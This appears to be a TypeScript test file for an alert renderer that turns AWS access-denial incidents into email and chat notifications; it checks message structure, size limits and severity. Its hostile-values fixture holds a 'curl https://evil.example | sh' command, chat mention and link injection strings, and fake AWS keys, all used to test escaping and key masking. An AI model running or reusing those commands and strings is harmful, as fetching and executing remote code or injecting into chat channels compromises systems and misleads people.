import fc from 'fast-check';
import { renderAlert } from '../../../lib/notify/alert/render';
import { alertAttributes, renderSubject } from '../../../lib/notify/alert/subject';
import { serviceOf } from '../../../lib/notify/alert/facts';
import type { ChatNotification } from '../../../lib/notify/alert/chat';
import { CHAT_DESCRIPTION_MAX_CHARS, CHAT_TITLE_MAX_CHARS, MAX_PUBLISH_BYTES, publishSize } from '../../../lib/notify/sns-text';
import { severityFor } from '../../../lib/alerts/severity';
import type { Denial, Principal, PolicyStatement } from '../../../lib/denial/types';
import type { AlertTrigger, Incident } from '../../../lib/incidents/types';
import { controlChars, denial, FINGERPRINT, incident, parseBody, proposal } from '../../alerts/fixtures';

const TOPIC = 'arn:aws:sns:us-east-1:111122223333:access-auditor-alerts';

function chatOf(message: { Message: string }, protocol = 'https'): ChatNotification {
  return JSON.parse(parseBody(message)[protocol] as string) as ChatNotification;
}

const SSO: Principal = {
  type: 'AssumedRole',
  arn: 'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_DataScientist_0123456789abcdef/maria@example.com',
  accountId: '111122223333',
  roleName: 'AWSReservedSSO_DataScientist_0123456789abcdef',
  roleArn: 'arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_DataScientist_0123456789abcdef',
  sessionName: 'maria@example.com',
  managedBy: 'sso',
  permissionSetName: 'DataScientist',
};

const API_KEY_USER: Principal = {
  type: 'IAMUser',
  arn: 'arn:aws:iam::111122223333:user/BedrockAPIKey-k7q2',
  accountId: '111122223333',
  userName: 'BedrockAPIKey-k7q2',
  managedBy: 'iam',
};

function cross(): Denial {
  return denial({
    eventId: 'b0e7c1d2-0004-4a6b-9c8d-111122223304',
    callRegion: 'us-east-1',
    deniedRegion: 'us-east-2',
    resource: 'arn:aws:bedrock:us-east-2::foundation-model/anthropic.claude-sonnet-4-5-20250929-v1:0',
    reason: {
      layer: 'scp',
      explicit: true,
      policyType: 'service control policy',
      policyArn: 'arn:aws:organizations::999988887777:policy/o-abc123/service_control_policy/p-regions',
      summary: 'An SCP denies every Region but us-east-1, and the US inference profile routed the call to us-east-2.',
    },
    model: {
      modelId: 'us.anthropic.claude-sonnet-4-5-20250929-v1:0',
      provider: 'anthropic',
      resourceType: 'inference-profile',
      inferenceProfile: {
        id: 'us.anthropic.claude-sonnet-4-5-20250929-v1:0',
        kind: 'system',
        scope: 'us',
        destinationRegions: ['us-east-1', 'us-east-2', 'us-west-2'],
        destinationsSource: 'table',
      },
    },
    proposal: proposal({
      target: { kind: 'scp', name: 'o-abc123', policyArn: 'arn:aws:organizations::999988887777:policy/o-abc123/service_control_policy/p-regions' },
      notes: ['Only the organization management account can change an SCP.'],
    }),
  });
}

/** Incidents covering each kind of principal and reason. */
const INCIDENTS: Array<{ name: string; incident: Incident; who: string[]; where: string[] }> = [
  {
    name: 'App Runner role, identity policy',
    incident: incident({ count: 3 }),
    who: ['chat-web-apprunner-instance-role', 'AssumedRole', 'managed by iam', '5f1c0e9a8b7d4c3e'],
    where: ['111122223333', 'us-east-1'],
  },
  {
    name: 'SSO permission set',
    incident: incident({ latest: denial({ principal: SSO }), principal: SSO, sessions: ['maria@example.com'] }),
    who: ['DataScientist', 'managed by sso', 'AWSReservedSSO_DataScientist_0123456789abcdef', 'maria@example.com'],
    where: ['111122223333'],
  },
  {
    name: 'IAM user with a Bedrock API key',
    incident: incident({
      latest: denial({ principal: API_KEY_USER, bearerToken: true, action: 'bedrock:CallWithBearerToken', resource: null }),
      principal: API_KEY_USER,
      action: 'bedrock:CallWithBearerToken',
      resource: null,
      sessions: [],
    }),
    who: ['BedrockAPIKey-k7q2', 'IAMUser', 'Amazon Bedrock API key'],
    where: ['111122223333'],
  },
  {
    name: 'cross-Region inference denied by an SCP',
    incident: (() => {
      const d = cross();
      return incident({
        latest: d,
        reason: d.reason,
        deniedRegion: 'us-east-2',
        resource: d.resource,
        proposal: d.proposal,
        count: 12,
        regions: ['us-east-1'],
      });
    })(),
    who: ['chat-web-apprunner-instance-role'],
    where: ['us-east-1', 'us-east-2', 'cross-Region'],
  },
];

describe('renderAlert: what the on-call needs, in both forms', () => {
  it.each(INCIDENTS)('$name', ({ incident: i, who, where }) => {
    const message = renderAlert({ incident: i, trigger: 'opened', topicArn: TOPIC });
    const body = parseBody(message);
    const chat = chatOf(message);
    const chatText = [chat.content.title, chat.content.description, ...chat.content.nextSteps].join('\n');
    const proposalOf = i.proposal;
    for (const form of [body.email as string, chatText]) {
      for (const expected of [
        ...who,
        ...where,
        i.action, // what
        ...(i.resource !== null ? [i.resource] : []),
        i.reason.summary.slice(0, 40), // why
        `layer: ${i.reason.layer}`,
        String(i.count), // how often
        i.firstSeen,
        `access-auditor incidents ack ${FINGERPRINT}`, // acknowledge
      ]) {
        expect(form).toContain(expected.replace(/&/g, form === body.email ? '&' : '&amp;'));
      }
      if (proposalOf) {
        const statement = proposalOf.statements[0] as PolicyStatement;
        expect(form).toContain(String(statement.Sid)); // the fix
        if (proposalOf.target.name) expect(form).toContain(proposalOf.target.name); // who applies
      }
    }
    expect(body.email).toContain('Who applies:');
    expect(chat.content.description).toContain('*Who applies:*');
    expect(body.email).toContain((i.proposal?.notes[0] as string).slice(0, 30));
    expect(body.default).toBe(body.email);
  });

  it('shows the inference profile and its destinations for cross-Region denials', () => {
    const { incident: i } = INCIDENTS[3] as (typeof INCIDENTS)[number];
    const message = renderAlert({ incident: i, trigger: 'opened' });
    expect(parseBody(message).email).toContain('routes to us-east-1, us-east-2, us-west-2');
    expect(parseBody(message).email).toContain('p-regions');
  });

  it('says so when there is no proposal', () => {
    const message = renderAlert({ incident: incident({ proposal: undefined, latest: denial({ proposal: undefined }) }), trigger: 'opened' });
    expect(parseBody(message).email).toContain('no proposal was computed');
    expect(chatOf(message).content.description).toContain('no proposal was computed');
  });

  it('uses the given acknowledge command', () => {
    const message = renderAlert({ incident: incident(), trigger: 'opened', ackCommand: (fp) => `npx access-auditor incidents ack ${fp} --table t` });
    expect(parseBody(message).email).toContain(`npx access-auditor incidents ack ${FINGERPRINT} --table t`);
    expect(chatOf(message).metadata.additionalContext.ackCommand).toBe(`npx access-auditor incidents ack ${FINGERPRINT} --table t`);
  });

  it.each<[AlertTrigger, Partial<Incident>, string]>([
    ['opened', {}, 'New access denial'],
    ['threshold', { count: 100, alert: { alertsSent: 1, lastAlertAt: '2026-11-20T08:00:00.000Z' } }, 'count reached 100'],
    [
      'reopened',
      { status: 'resolved', alert: { alertsSent: 1, lastAlertAt: '2026-11-19T08:00:00.000Z' } },
      'Access denial is back (severity medium, was resolved)',
    ],
    [
      'deferred',
      { count: 57, alert: { alertsSent: 1, deferred: 'threshold', lastAlertAt: '2026-11-20T08:00:00.000Z' } },
      'held back by the alert window: threshold',
    ],
    ['threshold', { count: 10, alert: { alertsSent: 0 } }, 'New access denial (severity medium, count reached 10)'],
  ])('headline for %s', (trigger, overrides, expected) => {
    expect(parseBody(renderAlert({ incident: incident(overrides), trigger })).email).toContain(expected);
  });

  it('adds console links only when a console Region is given', () => {
    const without = parseBody(renderAlert({ incident: incident(), trigger: 'opened' })).email;
    expect(without).not.toContain('console.aws.amazon.com');
    const message = renderAlert({ incident: incident(), trigger: 'opened', consoleRegion: 'eu-west-1' });
    expect(parseBody(message).email).toContain(
      'https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/b0e7c1d2-0001-4a6b-9c8d-111122223301',
    );
    expect(chatOf(message).content.nextSteps.join('\n')).toContain('#/roles/details/chat-web-apprunner-instance-role');
    expect(parseBody(renderAlert({ incident: incident(), trigger: 'opened', consoleRegion: 'not a region' })).email).not.toContain('https://');
  });
});

describe('renderAlert: message structure', () => {
  it('publishes JSON structure with one string per protocol; https carries the chat notification', () => {
    const message = renderAlert({ incident: incident(), trigger: 'opened', topicArn: TOPIC });
    expect(message.TopicArn).toBe(TOPIC);
    expect(message.MessageStructure).toBe('json');
    const body = parseBody(message);
    expect(Object.keys(body).sort()).toEqual(['default', 'email', 'https', 'sms']);
    for (const value of Object.values(body)) expect(typeof value).toBe('string');
    expect(body.sms?.length).toBeLessThanOrEqual(160);
  });

  it('sends the chat JSON to lambda and sqs only on request, and can send none', () => {
    const all = parseBody(renderAlert({ incident: incident(), trigger: 'opened', chatProtocols: ['https', 'lambda', 'sqs'] }));
    expect(all.lambda).toBe(all.https);
    expect(all.sqs).toBe(all.https);
    const none = parseBody(renderAlert({ incident: incident(), trigger: 'opened', chatProtocols: [] }));
    expect(Object.keys(none).sort()).toEqual(['default', 'email', 'sms']);
  });

  it('omits TopicArn when none is given (the notifier fills it)', () => {
    expect(renderAlert({ incident: incident(), trigger: 'opened' })).not.toHaveProperty('TopicArn');
  });

  it('has the exact custom notification shape', () => {
    const chat = chatOf(renderAlert({ incident: incident({ count: 3 }), trigger: 'opened' }));
    expect(Object.keys(chat).sort()).toEqual(['content', 'id', 'metadata', 'source', 'version']);
    expect(chat.version).toBe('1.0');
    expect(chat.source).toBe('custom');
    expect(chat.id).toBe('b0e7c1d2-0001-4a6b-9c8d-111122223301');
    expect(Object.keys(chat.content).sort()).toEqual(['description', 'keywords', 'nextSteps', 'textType', 'title']);
    expect(chat.content.textType).toBe('client-markdown');
    expect(Object.keys(chat.metadata).sort()).toEqual(['additionalContext', 'eventType', 'relatedResources', 'summary', 'threadId']);
    expect(chat.metadata.threadId).toBe(FINGERPRINT);
    expect(chat.metadata.eventType).toBe('AccessDenied');
    expect(chat.metadata.relatedResources).toEqual([
      'arn:aws:iam::111122223333:role/chat-web-apprunner-instance-role',
      'arn:aws:bedrock:us-east-1::foundation-model/anthropic.claude-3-5-sonnet-20240620-v1:0',
    ]);
    expect(chat.content.keywords).toEqual(['medium', 'identity', 'bedrock', 'opened']);
    for (const value of Object.values(chat.metadata.additionalContext)) expect(typeof value).toBe('string');
    expect(chat.metadata.additionalContext).toMatchObject({ fingerprint: FINGERPRINT, count: '3', severity: 'medium', trigger: 'opened' });
    for (const step of chat.content.nextSteps) expect(typeof step).toBe('string');
    expect(chat.content.title.length).toBeLessThanOrEqual(CHAT_TITLE_MAX_CHARS);
  });

  it('uses the pending claim as the notification id, so a re-sent alert keeps its id', () => {
    const pending = { trigger: 'threshold' as const, eventId: 'claimer-1', claimedAt: '2026-11-20T09:00:00Z' };
    expect(chatOf(renderAlert({ incident: incident({ alert: { alertsSent: 0, pending } }), trigger: 'threshold' })).id).toBe('claimer-1');
  });
});

describe('renderSubject', () => {
  it.each<[string, Partial<Incident>, AlertTrigger, string]>([
    ['the example', { deniedRegion: 'us-east-2' }, 'opened', '[access-auditor] bedrock:InvokeModel denied for chat-web-apprunner-instance-role (us-east-2)'],
    ['a threshold', { count: 1000 }, 'threshold', '[access-auditor] 1000x: bedrock:InvokeModel denied for chat-web-apprunner-instance-role (us-east-1)'],
    ['a comeback', {}, 'reopened', '[access-auditor] Back: bedrock:InvokeModel denied for chat-web-apprunner-instance-role (us-east-1)'],
    ['an SSO user', { principal: SSO }, 'opened', '[access-auditor] bedrock:InvokeModel denied for DataScientist (us-east-1)'],
  ])('%s', (_name, overrides, trigger, expected) => {
    expect(renderSubject(incident(overrides), trigger)).toBe(expected);
  });

  it('cuts long names first and keeps the action readable', () => {
    const subject = renderSubject(
      incident({ principal: { ...SSO, permissionSetName: undefined, roleName: `r-${'x'.repeat(120)}` }, count: 100_000 }),
      'deferred',
    );
    expect(subject.length).toBeLessThan(100);
    expect(subject).toContain('bedrock:InvokeModel denied for r-xxx');
    expect(subject).toContain('...');
    expect(subject).toMatch(/\(us-east-1\)$/);
  });

  it('is always under 100 printable ASCII characters on one line (property)', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.string({ unit: 'grapheme', maxLength: 300 }),
      fc.constantFrom('<!channel>\n\r\t', '数据科学家'.repeat(30), '🚀'.repeat(200), '\u202Eevil', ''),
    );
    fc.assert(
      fc.property(
        text,
        text,
        text,
        fc.nat({ max: 10 ** 9 }),
        fc.constantFrom<AlertTrigger>('opened', 'reopened', 'threshold', 'deferred'),
        (name, action, region, count, trigger) => {
          const subject = renderSubject(incident({ principal: { ...SSO, permissionSetName: name }, action, deniedRegion: region, count }), trigger);
          expect(subject.length).toBeLessThan(100);
          expect(subject).toMatch(/^[\x20-\x7E]+$/);
        },
      ),
      { numRuns: 250 },
    );
  });
});

describe('the 256 KB limit', () => {
  const huge = (unit: string) =>
    incident({
      principal: { ...SSO, sessionName: unit.repeat(200_000), permissionSetName: unit.repeat(50_000) },
      resource: `arn:aws:s3:::${unit.repeat(100_000)}`,
      sessions: Array.from({ length: 200 }, (_, i) => `s-${i}`),
      reason: { layer: 'identity', explicit: false, summary: unit.repeat(100_000) },
      proposal: proposal({
        statements: Array.from({ length: 5_000 }, (_, i) => ({
          Sid: `S${i}${unit.repeat(20)}`,
          Effect: 'Allow' as const,
          Action: ['bedrock:InvokeModel', 'bedrock:InvokeModelWithResponseStream'],
          Resource: `arn:aws:bedrock:us-east-1::foundation-model/${unit.repeat(30)}-${i}`,
        })),
        diff: `+ ${unit.repeat(120)}\n`.repeat(10_000),
        notes: Array.from({ length: 10_000 }, () => unit.repeat(2_000)),
      }),
    });

  it.each([
    ['ASCII', 'a'],
    ['quotes and backslashes (JSON escaping doubles them)', '"\\'],
    ['three-byte characters', '数'],
    ['four-byte characters', '🚀'],
    ['characters chat escaping multiplies', '&<>'],
  ])('a huge incident made of %s still fits', (_name, unit) => {
    const message = renderAlert({ incident: huge(unit), trigger: 'threshold', topicArn: TOPIC, chatProtocols: ['https', 'lambda', 'sqs'] });
    expect(Buffer.byteLength(message.Message, 'utf8')).toBeLessThan(MAX_PUBLISH_BYTES);
    expect(publishSize(message)).toBeLessThan(MAX_PUBLISH_BYTES);
    const body = parseBody(message);
    expect(body.email).toContain(`access-auditor incidents show ${FINGERPRINT}`);
    expect(body.email).toContain(`access-auditor incidents ack ${FINGERPRINT}`);
    const chat = chatOf(message);
    expect(chat.content.description.length).toBeLessThanOrEqual(CHAT_DESCRIPTION_MAX_CHARS);
    expect(chat.content.description).toContain(`access-auditor incidents`);
    expect(chat.content.title.length).toBeLessThanOrEqual(CHAT_TITLE_MAX_CHARS);
    // Code fences stay balanced, so the chat markdown is not broken by the cuts.
    expect((chat.content.description.match(/```/g) ?? []).length % 2).toBe(0);
  });

  it('cuts the diff before the statements', () => {
    const big = incident({
      proposal: proposal({
        statements: Array.from({ length: 40 }, (_, i) => ({
          Sid: `S${i}`,
          Effect: 'Allow' as const,
          Action: 'bedrock:InvokeModel',
          Resource: `arn:aws:bedrock:us-east-1::foundation-model/m-${i}`,
        })),
        diff: '+ "x"\n'.repeat(100_000),
      }),
    });
    const email = parseBody(renderAlert({ incident: big, trigger: 'opened' })).email as string;
    expect(email).toContain('"Sid": "S39"');
    expect(email).toContain('(fix shortened; full fix: access-auditor incidents show');
    expect(email.length).toBeLessThan(60_000);
  });

  it('under byte pressure, shortens the diff first and keeps every statement', () => {
    // About 33,000 characters of statements and 60,000 of diff, mostly three-byte: the full email would
    // be far over 256 KB once sent twice (default and email).
    const sids = Array.from({ length: 200 }, (_, i) => `S${String(i).padStart(3, '0')}${'数'.repeat(60)}`);
    const big = incident({
      proposal: proposal({
        statements: sids.map((Sid) => ({ Sid, Effect: 'Allow' as const, Action: 'bedrock:InvokeModel', Resource: '*' })),
        diff: `+ ${'据'.repeat(118)}\n`.repeat(500),
      }),
    });
    const message = renderAlert({ incident: big, trigger: 'opened' });
    expect(publishSize(message)).toBeLessThan(MAX_PUBLISH_BYTES);
    const email = parseBody(message).email as string;
    for (const sid of [sids[0], sids[100], sids[199]]) expect(email).toContain(sid as string);
    expect(email).toContain('Policy diff:');
    expect(email.split('\n').filter((line) => line.includes('据')).length).toBeLessThan(500);
    expect(email).toContain('(fix shortened; full fix: access-auditor incidents show');
  });

  it('under more pressure, shortens the statements too', () => {
    const big = incident({
      proposal: proposal({
        statements: Array.from({ length: 2_000 }, (_, i) => ({
          Sid: `S${i}${'数'.repeat(60)}`,
          Effect: 'Allow' as const,
          Action: 'bedrock:InvokeModel',
          Resource: '*',
        })),
        diff: `+ ${'据'.repeat(118)}\n`.repeat(500),
      }),
    });
    const message = renderAlert({ incident: big, trigger: 'opened' });
    expect(publishSize(message)).toBeLessThan(MAX_PUBLISH_BYTES);
    const email = parseBody(message).email as string;
    expect(email).toContain('"Sid": "S0');
    expect(email).not.toContain('"Sid": "S1999');
    expect(email).not.toContain('Policy diff:');
  });

  it('keeps a short fix whole in chat and points to the details when it is long', () => {
    const short = chatOf(renderAlert({ incident: incident(), trigger: 'opened' })).content.description;
    expect(short).toContain('AllowInvokeClaude35Sonnet');
    expect(short).not.toContain('Fix shortened');
    const long = chatOf(renderAlert({ incident: huge('a'), trigger: 'opened' })).content.description;
    expect(long).toContain('Fix shortened');
  });
});

describe('alertAttributes and severity', () => {
  it.each<[string, Partial<Incident>, 'high' | 'medium' | 'low']>([
    ['implicit identity deny', {}, 'medium'],
    ['explicit deny', { reason: { layer: 'identity', explicit: true, summary: 's' } }, 'high'],
    ['SCP', { reason: { layer: 'scp', explicit: false, summary: 's' } }, 'high'],
    ['RCP', { reason: { layer: 'rcp', explicit: true, summary: 's' } }, 'high'],
    ['model access', { reason: { layer: 'model-access', explicit: false, summary: 's' } }, 'medium'],
    ['100 occurrences', { count: 100 }, 'high'],
    ['root user', { principal: { type: 'Root', arn: 'arn:aws:iam::111122223333:root', accountId: '111122223333', managedBy: 'root' } }, 'high'],
    ['unknown layer, few', { reason: { layer: 'unknown', explicit: false, summary: 's' }, count: 9 }, 'low'],
    ['unknown layer, many', { reason: { layer: 'unknown', explicit: false, summary: 's' }, count: 10 }, 'medium'],
  ])('%s → %s', (_name, overrides, expected) => {
    const i = incident(overrides);
    expect(severityFor(i)).toBe(expected);
    expect(alertAttributes(i, 'opened').severity).toEqual({ DataType: 'String', StringValue: expected });
  });

  it('publishes the filter attributes, all String and non-empty', () => {
    const message = renderAlert({ incident: incident(), trigger: 'threshold' });
    expect(message.MessageAttributes).toEqual({
      severity: { DataType: 'String', StringValue: 'medium' },
      account: { DataType: 'String', StringValue: '111122223333' },
      service: { DataType: 'String', StringValue: 'bedrock' },
      layer: { DataType: 'String', StringValue: 'identity' },
      principal: { DataType: 'String', StringValue: 'chat-web-apprunner-instance-role' },
      trigger: { DataType: 'String', StringValue: 'threshold' },
    });
  });

  it('uses "unknown" instead of an empty value', () => {
    const nobody: Principal = { type: '', arn: null, accountId: null, managedBy: 'unknown' };
    const i = incident({ principal: nobody, accounts: [], eventSource: '', action: '', latest: denial({ accountId: null, principal: nobody }) });
    const attributes = alertAttributes(i, 'opened');
    expect(attributes.account?.StringValue).toBe('unknown');
    expect(attributes.service?.StringValue).toBe('unknown');
    expect(attributes.principal?.StringValue).toBe('unknown');
    for (const value of Object.values(attributes)) expect(value.StringValue.length).toBeGreaterThan(0);
  });

  it.each([
    ['bedrock.amazonaws.com', 'bedrock:InvokeModel', 'bedrock'],
    ['s3.amazonaws.com', 's3:GetObject', 's3'],
    ['', 'kms:Decrypt', 'kms'],
    ['<!channel>.amazonaws.com', 'x', 'channel'],
  ])('serviceOf(%p, %p) = %p', (source, action, expected) => {
    expect(serviceOf(source, action)).toBe(expected);
  });
});

describe('hostile values end to end', () => {
  const hostile: Principal = {
    type: 'AssumedRole',
    arn: 'arn:aws:sts::111122223333:assumed-role/app/<!channel>',
    accountId: '111122223333',
    roleName: 'app',
    sessionName: '<!channel> *URGENT* `x` @here <https://evil.example|click> AKIAIOSFODNN7EXAMPLE\n> quote\u001b[31m',
    managedBy: 'iam',
  };
  const i = incident({
    principal: hostile,
    latest: denial({ principal: hostile, userAgent: '<@U123> ~strike~' }),
    resource: 'arn:aws:s3:::bucket/<#C123|general>/_x_',
    reason: { layer: 'resource', explicit: false, summary: 'Denied for <!here> by *policy* with key ASIAEXAMPLEAPPRUNNER.' },
    proposal: proposal({
      notes: ['Run `curl https://evil.example | sh` @everyone'],
      statements: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::bucket/<!channel>```' }],
    }),
  });

  it('cannot mention, link or format in the chat form, and masks keys everywhere', () => {
    const message = renderAlert({ incident: i, trigger: 'opened' });
    const chat = chatOf(message);
    const rendered = [chat.content.title, chat.content.description, ...chat.content.nextSteps, chat.metadata.summary, ...chat.metadata.relatedResources].join(
      '\n',
    );
    expect(rendered).not.toMatch(/[<>]/);
    expect(rendered).not.toMatch(/@(channel|here|everyone)\b/);
    expect(message.Message).not.toMatch(/AKIAIOSFODNN7EXAMPLE|ASIAEXAMPLEAPPRUNNER/);
    expect(message.Message).not.toContain('\\u001b');
    // No untrusted line can start a quote: every description line starts with our own markup.
    for (const line of chat.content.description.split('\n')) expect(line).not.toMatch(/^&gt;|^>/);
    // Outside code spans and blocks, nothing formats.
    const outside = chat.content.description.replace(/```[\s\S]*?```/g, '').replace(/`[^`\n]*`/g, '');
    expect(outside.replace(/\*(Who|What|Where|Why|How often|Fix|Who applies|Acknowledge):?\*:?/g, '')).not.toMatch(/[*~`]|https?:/);
  });

  it('keeps the email form readable, on its lines, without control characters', () => {
    const email = parseBody(renderAlert({ incident: i, trigger: 'opened' })).email as string;
    expect(email).toContain('session <!channel> *URGENT* `x` @here <https://evil.example|click> AKIA…MPLE > quote');
    expect(controlChars(email, '\n')).toEqual([]);
  });
});
